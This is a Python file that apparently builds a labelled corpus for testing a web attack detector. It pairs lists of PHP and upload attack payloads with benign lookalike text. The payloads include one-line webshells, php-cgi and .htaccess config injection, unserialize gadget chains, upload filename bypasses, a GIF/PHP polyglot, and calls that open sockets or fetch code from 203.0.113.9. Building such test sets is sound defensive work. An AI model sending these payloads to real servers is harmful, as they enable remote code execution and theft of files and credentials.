    "data:text/plain,<?php system('id');?>",
    "phar:///var/www/uploads/avatar.jpg/x",
    "phar://./uploads/1.gif/shell.php",
    "expect://id",
    "expect://cat /etc/passwd",
    "zip://uploads/avatar.jpg#shell.php",
    "glob:///var/www/html/*.php",
    "compress.zlib://phar:///tmp/upload.gif",
    "compress.bzip2:///var/www/html/config.php",
    "php://filter/resource=http://203.0.113.9/s.txt",
    "ssh2.exec://root:toor@203.0.113.9:22/id",
    "php://filter/write=convert.base64-decode/resource=s.php",
    "php://filter/string.strip_tags|convert.base64-decode/resource=shell.php",
    "pHp://FilTer/convert.base64-encode/resource=index",
    "php://filter/convert.base64-encode/resource=....//....//....//etc/passwd",
    "phar://../../uploads/avatar.png",
    "ftp://anonymous:x@203.0.113.9/shell.php",
    "php://filter/read=convert.base64-encode/resource=..\\..\\..\\..\\windows\\win.ini",
]
# PHP 5-8 unserialize() of a stored field, cookie, session or database row (second order): framework gadget
# chains (Monolog, Guzzle, Laravel, Drupal, ThinkPHP, Yii, Symfony), SoapClient SSRF, wakeup bypass, probes
PHP_OBJECT: list[Entry] = [
    MONOLOG_RCE,
    GUZZLE_FW,
    LARAVEL_RCE,
    (DRUPAL_REST, "json-body", "rs-json-body"),
    DRUPAL_FN,
    THINK_FD,
    YII_RCE,
    SYMFONY_FD,
    SOAP_SSRF,
    STD,
    _list([STD]),
    "O:+8:\"stdClass\":0:{}",
    _obj("User", [("role", _s("admin"))], count=3),
    "|" + _obj("stdClass", [("admin", "b:1;")]),
    base64.b64encode(MONOLOG_RCE.encode()).decode(),
    ARRAY_OBJECT,
    _obj("A", [("file", _s("/etc/passwd"))]),
    _list([STD, "r:2;"]),
    _obj("Exception", [(_prot("message"), _s("<script>alert(1)</script>"))]),
    "' UNION SELECT '" + _obj("stdClass", [("isAdmin", "b:1;")]) + "'-- -",
    urllib.parse.quote(LARAVEL_RCE),
    json.dumps({"preferences": _obj("Monolog\\Handler\\BufferHandler", [(_prot("buffer"), _list([]))])}),
    _arr([(_s("user"), _obj("App\\Models\\User", [("id", "i:1;"), ("is_admin", "b:1;")]))]),
    _list([_obj("stdClass", [("x", _s("<?php system($_GET['c']); ?>"))])]),
    SWIFT_FD,
    SPL_STORAGE,
]
# php-cgi (CVE-2012-1823, CVE-2024-4577 on Windows), .user.ini / .htaccess / php-fpm pool lines an upload or a
# config writer stores, PHP-FPM PATH_INFO injection (CVE-2019-11043), ini_set from injected code
PHP_CONFIG: list[Entry] = [
    ("-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "query-raw", "rs-query-raw"),
    ("%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "query-raw", "rs-query-raw"),
    ("-d+safe_mode%3dOff+-d+disable_functions%3dNULL+-d+allow_url_include%3dOn+-d+auto_prepend_file%3d"
     "http://203.0.113.9/s.txt", "query-raw", "rs-query-raw"),
    ("-d+auto_prepend_file%3d/proc/self/fd/0+-n", "query-raw", "rs-query-raw"),
    ("-d+extension%3d/tmp/evil.so", "query-raw", "rs-query-raw"),
    ("%ADd+cgi.force_redirect%3d0+%ADd+auto_prepend_file%3dphp://input", "query-raw", "rs-query-raw"),
    "auto_prepend_file=php://input",
    "php_value auto_prepend_file \"/var/www/uploads/avatar.gif\"",
    "AddType application/x-httpd-php .jpg",
    ("/index.php/PHP_VALUE%0Aauto_prepend_file=php://input;;;;;;;;;;;;;;;;;;;;;?" + "Q" * 40, "path-raw",
     "rs-path-raw"),
    ("/index.php/PHP_VALUE%0Asession.auto_start=1;;;?" + "Q" * 60, "path-raw", "rs-path-raw"),
    "ini_set('allow_url_include','1');include('http://203.0.113.9/s.txt');",
    "ini_set('open_basedir','..');chdir('..');chdir('..');ini_set('open_basedir','/');echo file_get_contents("
    "'/etc/passwd');",
    "auto_append_file=/proc/self/environ",
    "allow_url_fopen=On\nallow_url_include=On\nauto_prepend_file=data://text/plain;base64,"
    + _b64("<?php system($_GET['c']);?>"),
    "php_admin_value[auto_prepend_file] = /tmp/sess_x",
    "error_log=/var/www/html/e.php\nerror_reporting=E_ALL\nlog_errors=On",
    ("PHP_SESSION_UPLOAD_PROGRESS=<?php system('id');?>", "form-raw", "rs-raw-body"),
    "php_value auto_append_file data://text/plain;base64," + _b64("<?php passthru($_GET['c']);?>"),
    "<Files *.jpg>\nSetHandler application/x-httpd-php\n</Files>",
    "ini_set('display_errors',1);ini_set('allow_url_fopen',1);readfile('http://203.0.113.9/c');",
    "auto_prepend_file=..\\..\\..\\windows\\temp\\sess_abc",
    "php_flag engine on\nAddHandler php7-script .png",
    "ini_restore('disable_functions');ini_set('disable_functions','');system('id');",
    "\nauto_prepend_file=/var/log/nginx/access.log\n",
    "php_value include_path \".:/var/www/uploads\"\nphp_value auto_prepend_file avatar.gif",
]
# PHP 5-8: injected code that takes its real payload from a superglobal (a one-line webshell), and request
# variables that overwrite globals or the session where an app calls extract() or register_globals is on
PHP_SUPERGLOBALS: list[Entry] = [
    "@eval($_REQUEST[0]);",
    "system($_SERVER['HTTP_X_CMD']);",
    "${@eval($_SERVER['HTTP_ACCEPT_LANGUAGE'])}",
    "assert($_COOKIE['a']);",
    "var_dump($_SERVER);",
    "extract($_REQUEST);$f($a);",
    "move_uploaded_file($_FILES['f']['tmp_name'],'s.php');",
    "include($_FILES['x']['tmp_name']);",
    "echo file_get_contents($_GET['f']);",
    "{${system($_GET['c'])}}",
    "array_map($_GET['f'],[$_GET['a']]);",
    "$_REQUEST['a']($_REQUEST['b']);",
    "eval(base64_decode($_POST['z0']));",
    "@preg_replace('/.*/e',$_POST['c'],'');",
    ("_SERVER[DOCUMENT_ROOT]=http://203.0.113.9/", "param-name", "rs-param-name"),
    ("_SESSION[is_admin]=1", "param-name", "rs-param-name"),
    ("GLOBALS[_GET][cmd]=id", "param-name", "rs-param-name"),
    "eval($HTTP_RAW_POST_DATA);",
    "file_put_contents($_GET['f'],$_POST['c']);",
    "';eval($_GET[0]);//",
    "\"];eval($_COOKIE['x']);/*",
    "<?=$_GET[1]($_POST[2])?>",
    "\".$_SERVER['DOCUMENT_ROOT'].\"",
    "$_SESSION['role']='admin';",
    "print_r($_ENV);print_r($GLOBALS);",
    "passthru(getenv('HTTP_X_C').$_GET['a']);",
]
# Apache mod_php / PHP-FPM behind nginx / IIS: upload names that end up executed (double extensions, trailing
# dots and spaces, NTFS streams, null bytes, Unix and Windows traversal, .htaccess and .user.ini)
PHP_UPLOAD: list[Entry] = [
    ("shell.php", "multipart-filename", "rs-multipart-filename"),
    ("shell.phtml", "multipart-filename", "rs-multipart-filename"),
    ("shell.phar", "multipart-filename", "rs-multipart-filename"),
    ("s.php5", "multipart-filename", "rs-multipart-filename"),
    ("s.pht", "multipart-filename", "rs-multipart-filename"),
    ("avatar.jpg.php", "multipart-filename", "rs-multipart-filename"),
    ("avatar.php.jpg", "multipart-filename", "rs-multipart-filename"),
    ("avatar.php\x00.jpg", "multipart-filename", "rs-multipart-filename"),
    ("avatar.php;.jpg", "multipart-filename", "rs-multipart-filename"),
    ("avatar.php::$DATA", "multipart-filename", "rs-multipart-filename"),
    ("avatar.php.", "multipart-filename", "rs-multipart-filename"),
    ("avatar.PhP", "multipart-filename", "rs-multipart-filename"),
    ("../../../var/www/html/s.php", "multipart-filename", "rs-multipart-filename"),
    ("..\\..\\..\\inetpub\\wwwroot\\s.php", "multipart-filename", "rs-multipart-filename"),
    ("../..\\../..\\s.phtml", "multipart-filename", "rs-multipart-filename"),
    (".htaccess", "multipart-filename", "rs-multipart-filename"),
    (".user.ini", "multipart-filename", "rs-multipart-filename"),
    ("filename*=UTF-8''s.php", "multipart-filename", "rs-multipart-filename"),
    ("\"><img src=x onerror=alert(1)>.php", "multipart-filename", "rs-multipart-filename"),
    ("avatar.php ", "multipart-filename", "rs-multipart-filename"),
    ("s.php7", "multipart-filename", "rs-multipart-filename"),
    ("s.php....", "multipart-filename", "rs-multipart-filename"),
    ("s.phar.png", "multipart-filename", "rs-multipart-filename"),
    ("s.php%00.gif", "json", "rs-json"),
    ("avatar.phtml", "header:X-File-Name", "rs-header:X-File-Name"),
    ("/uploads/avatar.jpg/x.php", "path-raw", "rs-path-raw"),
]
# PHP 5-8: the functions a tester reaches for once code runs (recon, file read/write, network, process control,
# disable_functions bypasses), each closing the quote or statement it was injected into
PHP_RISKY: list[Entry] = [
    "'.phpinfo().'",
    "highlight_file('/etc/passwd');",
    "\";show_source('config.php');//",
    "file_put_contents('s.php',base64_decode('" + _b64("<?php system($_GET[0]);") + "'));",
    "fsockopen('203.0.113.9',4444);",
    "pcntl_exec('/bin/sh',['-c','id']);",
    "posix_kill(posix_getppid(),9);",
    "putenv('LD_PRELOAD=/tmp/x.so');mail('a@example.com','','','');",
    "dl('evil.so');",
    "FFI::cdef('int system(const char *);')->system('id');",
    "symlink('/etc/passwd','/var/www/html/p.txt');",
    "unlink('../config.php');",
    "copy('http://203.0.113.9/s.txt','s.php');",
    "eval(str_rot13('flfgrz(\"vq\");'));",
    "error_log('<?php system($_GET[0]);?>',3,'/var/www/html/l.php');",
    "imap_open(\"{x -oProxyCommand=echo\\t" + _b64("id>/tmp/x") + "|base64\\t-d|sh}\",'','');",
    "mail('a@example.com','s','b','','-X/var/www/html/s.php');",
    "chmod('s.php',0777);",
    "print_r(getenv());",
    "readfile('/etc/passwd');",
    "print_r(scandir('/'));",
    "stream_socket_client('tcp://203.0.113.9:4444');",
    "curl_exec(curl_init('http://169.254.169.254/latest/meta-data/'));",
    "'.php_uname().'\".php_uname().\"",
    "1;phpinfo();#",
    "var_dump(ini_get_all());",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", XSS_LIBINJ),
    ("xss", "script-tag", XSS_SCRIPT),
    ("xss", "event-handler", XSS_EVENT),
    ("xss", "attribute-vector", XSS_ATTR),
    ("xss", "javascript-uri", XSS_JSURI),
    ("xss", "html-injection", XSS_HTML),
    ("xss", "svg-mathml", XSS_SVG),
    ("xss", "css-expression", XSS_CSS),
    ("xss", "template-literal-dom-sink", XSS_DOM),
    ("xss", "ie-filter-style", XSS_IE),
    ("xss", "encoded-entity", XSS_ENCODED),
    ("xss", "angular-vue-template", XSS_CSTI),
    ("php", "php-open-tag", PHP_OPEN_TAG),
    ("php", "php-function-call", PHP_FUNC),
    ("php", "php-variable-functions", PHP_VARFUNC),
    ("php", "php-wrappers", PHP_WRAPPERS),
    ("php", "php-object-injection", PHP_OBJECT),
    ("php", "php-config-directives", PHP_CONFIG),
    ("php", "superglobals", PHP_SUPERGLOBALS),
    ("php", "php-file-upload", PHP_UPLOAD),
    ("php", "php-high-risk-function-names", PHP_RISKY),
]

# ----------------------------------------------------------------------------------------------------------------
# Placements
# `name=value` payloads sent unquoted where they name the place (parameter names, raw bodies)
RAW_KV_SUBS = {"superglobals", "php-config-directives", "template-literal-dom-sink"}
# the real upload: a GIF that is also a PHP script; the regression-suite upload: a bare GIF header
UPLOAD_POLYGLOT = "GIF89a;\n<?php system($_GET['c']); __halt_compiler();"
UPLOAD_PLAIN = "GIF89a\x01\x00\x01\x00\x80\x00\x00;"


class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    # profile and search fields: a stored value is rendered later by the admin panel, a report or an export
    names = ["name", "bio", "website", "q", "address", "display_name", "comment", "title", "note", "callback"]
    boundary = "----WebKitFormBoundaryQ3xK9pLmZ2vT8wRa"

    def name(self, category: str, sub: str, k: int) -> str:
        return "filename" if sub == "php-file-upload" else super().name(category, sub, k)

    def fits(self, place: str, v: str) -> bool:
        if place == "rs-raw-body":
            return not any(c in v for c in "&+%")   # these would split or change the raw body when it is parsed
        return super().fits(place, v)

    def _p_query_raw(self, p: Put) -> Record:
        return _get("/api/users?" + p.v)

    def _p_form_raw(self, p: Put) -> Record:
        return self._p_form(p._replace(raw=True))

    def _p_xml_doc(self, p: Put) -> Record:
        return request("POST", "/api/users", p.v, "application/xml")

    def _p_multipart_filename(self, p: Put) -> Record:
        body = self.multipart([("csrf_token", "t0k3n", None), ("file", UPLOAD_POLYGLOT, p.v)], "image/gif")
        return request("POST", "/admin/users/import", body, self.multipart_type)

    def _p_path_raw(self, p: Put) -> Record:
        return _get("/api/users" + p.v)

    def _p_rs_query_raw(self, p: Put) -> Record:
        return request("GET", p.path + "?" + p.v)

    def _p_rs_xml_doc(self, p: Put) -> Record:
        return request("POST", p.path, p.v, "text/xml")

    def _p_rs_multipart_filename(self, p: Put) -> Record:
        target = self.rs_upload if p.path in ("/", "/get", "/search") else p.path
        return request("POST", target, self.multipart([("file", UPLOAD_PLAIN, p.v)], "image/gif"), self.multipart_type)

    def _p_rs_path_raw(self, p: Put) -> Record:
        return request("GET", p.v)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios, searches, admin notes, links, profiles, uploads)
CHAT = [
    # XSS and the front end
    "the XSS finding from the pentest is the admin search box, fix is in PR #412",
    "reminder: bios go through markupsafe.escape before they reach the template",
    "does anyone know why the svg icons don't render in Safari 17?",
    "Vue 3 devtools keep crashing on the profile page, anyone else seeing that?",
    "AngularJS is end of life, we should finish the move to Angular 17 this quarter",
    "CSP report-uri is flooding Sentry with inline script violations from a browser extension",
    "can someone review the iframe embed for the status page?",
    "moving the favicon to an svg file, it looks much sharper",
    "the javascript console shows a CORS error on /api/users from localhost:5173",
    "the event handler on the search box fires twice, I'm debouncing it",
    "template literals in the email builder make the code a lot easier to read",
    "how do I get the onload event of an embedded iframe in React?",
    "the style attribute on the banner overrides the theme, moving it to the css file",
    "MathML support landed in Chrome 109, nice for the docs site",
    "IE 11 is officially out of the support matrix as of today",
    "the html entity &amp; shows up literally in one user's display name",
    "Alpine.js is enough for the settings toggles, no need to pull in Vue",
    "the admin log viewer truncates user agents at 200 characters",
    "the report generator renders user names into the PDF, escaping verified",
    "the data: URLs for avatars are blocked by our CSP img-src, that's intended",
    "the Content-Security-Policy header now has frame-ancestors 'none'",
    "we render markdown with bleach, it strips script and style tags",
    "the angular expression {{ user.name }} flashes raw on first paint, add ng-cloak",
    "X-XSS-Protection is deprecated, we removed the header last sprint",
    "the javascript: links in the old help articles were replaced with buttons",
    "the onclick handlers in the legacy admin should move to addEventListener",
    "the form action on the login page still points at the old domain",
    "base href in the SPA's index.html has to be /app/ for the router",
    "meta refresh on the maintenance page sends people back after 30 seconds",
    "link rel=preload for the fonts shaved 200ms off first paint",
    "the embed code for the onboarding video uses youtube-nocookie.com",
    "object-fit: cover fixes the stretched avatars",
    "css expression() only ever worked in old IE, nothing to worry about there",
    "innerHTML in the notification widget was replaced with textContent",
    "the session cookie is HttpOnly, so document.cookie can't read it anyway",
    "the Vue template uses v-html for the release notes, which we write ourselves",
    "the export to CSV quotes every field now, thanks Priya",
    # PHP
    "php 8.3 upgrade on the legacy billing box is scheduled for Thursday night",
    "composer update pulled in guzzle 7.8, tests are green",
    "who owns the WordPress marketing site? it still runs PHP 7.4",
    "phpinfo pages are disabled on prod, run php -i on the box if you need it",
    "the Laravel queue worker ran out of memory again overnight",
    "the serialize() call in the old session handler is gone in the rewrite",
    "we call unserialize with allowed_classes => false in the legacy importer",
    "the .htaccess on the old server had a rewrite rule for /blog",
    "php-fpm status shows 30 idle workers, we can scale the pool down",
    "Symfony 7 cache:clear takes forever on the staging box",
    "Monolog's Slack handler is rate limited, batching messages now",
    "the Drupal security release is out, can we patch tonight?",
    "phpMyAdmin is off the public internet now, VPN only",
    "assert statements in the test suite are fine, the linter flags them in app code",
    "our eval harness for the chatbot lives in evals/, nothing to do with php eval",
    "the system prompt for Jeeves got longer, keep an eye on token usage",
    "exec summary for the security review is in the shared drive",
    "the file upload limit is 10 MB, bigger PDFs get a 413",
    "zip export of the audit log works again",
    "the glob pattern in the deploy script missed the .phtml templates",
    "auto_prepend_file is set in php.ini on the legacy box for the APM agent",
    "allow_url_include is off everywhere, the config audit confirmed it",
    "the proc_open call in the PDF generator has a timeout now",
    "shell_exec is disabled on the shared hosting plan, use the queue instead",
    "create_function is gone in PHP 8, the plugin needs closures instead",
    "preg_replace with the /e modifier fails on PHP 7, switch to preg_replace_callback",
    "the php://stdin read in the CLI importer works fine with pipes",
    "the phar for the CLI tool is signed with our release key",
    "$_SERVER['REMOTE_ADDR'] is the proxy, take X-Forwarded-For from the trusted hop",
    "$_POST is empty when the client sends JSON, read php://input instead",
    "the refactor moved the config globals into a settings class",
    "the upload of invoice.phar got rejected, is that our CDN or the app?",
    "Xdebug slows the test suite down 3x, turn it off unless you're debugging",
]
SEARCHES = [
    "php developer", "vue", "angular", "svg designer", "Scarlett", "alert systems", "O'Brien", "exec assistant",
    "system admin", "frontend", "Evangeline", "Shelley", "Eve", "css", "javascript", "Java Script course",
    "event coordinator", "media team", "embed", "form builder", "Link", "base camp", "meta", "expression",
    "Mathilde", "template", "filter", "data team", "Glob", "zip code 10001", "config", "global sales",
    "session speaker", "cookie", "server team", "request", "files", "upload", "Phar Lap", "Style",
    "Onley", "d'Angelo", "García", "Müller", "marketing@", "support@example.org", "script writer",
    "Iframe Studio", "object storage", "Vue Nguyen",
]
URLS = [
    "https://www.php.net/manual/en/function.system.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/ini.core.php#ini.auto-prepend-file",
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://developer.mozilla.org/en-US/docs/Web/SVG/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/API/Element/innerHTML",
    "https://vuejs.org/guide/best-practices/security.html",
    "https://angular.io/guide/security",
    "https://nvd.nist.gov/vuln/detail/CVE-2024-4577",
    "https://portswigger.net/web-security/cross-site-scripting",
    "https://laravel.com/docs/11.x/blade#displaying-data",
    "https://cdn.example.com/avatars/ann.svg",
    "https://github.com/advisories?query=ecosystem%3Acomposer",
    "https://wordpress.org/plugins/classic-editor/",
]
PROSE = [
    "customer reports the profile page shows a script error after saving the bio",
    "user says uploads of .heic photos fail with an unsupported format message",
    "refund request for order 4412, duplicate charge",
    "reset 2FA for the account, user lost the phone",
    "user asks why their display name shows &amp; instead of &",
    "customer wants the invoice template in German",
    "alert emails go to the old address, update the contact",
    "php upgrade notice sent to all hosting customers",
    "svg logo upload rejected, asked the customer for a PNG",
    "the iframe on the customer's site shows a blank page",
    "user cannot log in after the password reset email",
    "customer asks whether we support Vue 3 in the widget SDK",
    "escalated: export to CSV has broken accents",
    "onboarding call scheduled with Expression Dance Studio",
    "Angular app of the customer calls the API with the wrong token",
    "the form on the contact page doesn't submit in Firefox",
    "user asked to delete their account and data (GDPR)",
    "customer sent a screenshot of the javascript error in the console",
    "embed code for the status page shared with the partner",
    "event tickets resent to the customer",
    "duplicate account merged: shell.beach.motel@example.org",
    "user asks for the style guide PDF",
    "customer needs the zip file with all their receipts",
    "session timeout too short according to the customer",
    "the meta description of the shop page is missing",
    "link in the welcome email is broken",
    "customer reports the mobile menu overlaps the logo",
    "password manager does not fill the login form",
    "customer wants SSO with their Google Workspace",
    "billing address changed to Rue de la Paix 5, Paris",
]
PROFILES = [
    ("Scarlett Script", "12 Elm Street, Springfield"),
    ("Vue Nguyen", "45 Nguyen Hue, Ho Chi Minh City"),
    ("Alert Security Services", "9 Guard Rd, Leeds"),
    ("Expression Dance Studio", "Studio 4, 22 King St, Manchester"),
    ("Style & Form Salon", "3 High St, Bath"),
    ("Embed Labs GmbH", "Torstraße 12, Berlin"),
    ("Object Matter Ltd", "Unit 7, Quayside, Newcastle"),
    ("Evalina Petrova", "ul. Vitosha 15, Sofia"),
    ("System Solutions Inc", "100 Main St, Austin, TX"),
    ("Shell Beach Motel", "Shell Beach Rd 2, Pismo Beach, CA"),
    ("Assert Consulting", "Keizersgracht 100, Amsterdam"),
    ("Phar Lap Racing Club", "Flemington Rd 1, Melbourne"),
    ("Glob Industries", "Industrial Park 4, Detroit"),
    ("Zip Couriers", "Dock Lane 8, Bristol"),
    ("Data Streams Ltd", "5 Canal St, Dublin"),
    ("Global Session Partners", "Av. Paulista 900, São Paulo"),
    ("Media Query Design", "Rua Augusta 30, Lisboa"),
    ("Iframe Studio", "Loft 2, Rotterdam"),
    ("Angela Angulo", "Calle Mayor 3, Madrid"),
    ("Math & Co Tutors", "Church Rd 11, Cambridge"),
    ("Base Camp Outdoor", "Trail Rd 6, Boulder, CO"),
    ("Onload Logistics", "Hafenstraße 20, Hamburg"),
    ("Siobhán O'Connor", "Main St 4, Cork"),
    ("Zoë D'Souza", "MG Road 12, Bengaluru"),
    ("Filter Coffee House", "Brick Lane 7, London"),
]
UPLOAD_NAMES = [
    "invoice_2024-05.pdf", "profile photo.jpg", "diagram.svg", "export.csv", "php-course-notes.pdf",
    "Screenshot 2024-06-01 at 10.32.15.png", "users (1).csv", "report.final.v2.docx", "logo.svg",
    "phpinfo-screenshot.png", "vue-migration-plan.md", "archive.zip", "backup-2024-06-01.tar.gz", "résumé.pdf",
    "settings.json", "template.xlsx", "shell-beach.jpg", "style-guide.pdf", "cat.gif", "script-draft.txt",
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko"),
    ("User-Agent", "GuzzleHttp/7"),
    ("User-Agent", "WordPress/6.5.4; https://blog.example.com"),
    ("User-Agent", "PHP/8.2.20"),
    ("User-Agent", "Symfony HttpClient (Curl)"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("Referer", "https://www.google.com/search?q=php+unserialize+allowed_classes"),
    ("Referer", "https://stackoverflow.com/questions/29282160/how-to-escape-html-in-vue-js"),
    ("Referer", "https://app.example.com/admin/users?q=script&page=2"),
    ("Referer", "https://docs.example.com/api/users#filter-by-name"),
    ("Referer", "https://www.bing.com/search?q=svg+onload+event+not+firing"),
    ("Referer", "https://github.com/acme/web/pull/412/files"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
    ("Accept", "image/svg+xml,image/*;q=0.8"),
    ("Accept-Language", "de-CH,de;q=0.9,fr;q=0.8,en;q=0.7"),
    ("X-Requested-With", "XMLHttpRequest"),
    ("X-Request-Id", "3c5d8a0e-7f2b-4d61-9e0a-55b1c2d3e4f5"),
    ("X-Api-Version", "2024-06-01"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
